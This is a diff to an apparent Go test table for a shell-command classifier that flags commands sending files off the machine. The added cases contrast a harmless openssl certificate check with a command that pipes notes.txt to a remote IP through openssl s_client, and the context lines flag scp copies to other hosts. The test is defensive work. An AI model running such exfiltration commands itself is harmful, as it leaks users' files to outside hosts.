@@ -51,6 +51,10 @@ func TestImageCopies(t *testing.T) {
 		cmdCase(`scp dist/app.tar.gz deploy@203.0.113.40:/opt/app/`, true),
 		// A single-label name may be an ssh alias for any host.
 		cmdCase(`scp -r src devbox:/tmp/`, true),
+		// openssl s_client fed an empty line connects and quits: a
+		// certificate check; fed data, it sends it.
+		cmdCase(`echo | openssl s_client -connect api.example.org:443 -servername api.example.org 2>/dev/null | openssl x509 -noout -dates`, false),
+		cmdCase(`echo "$(cat notes.txt)" | openssl s_client -connect 203.0.113.5:443`, true),
 	})
 }
 
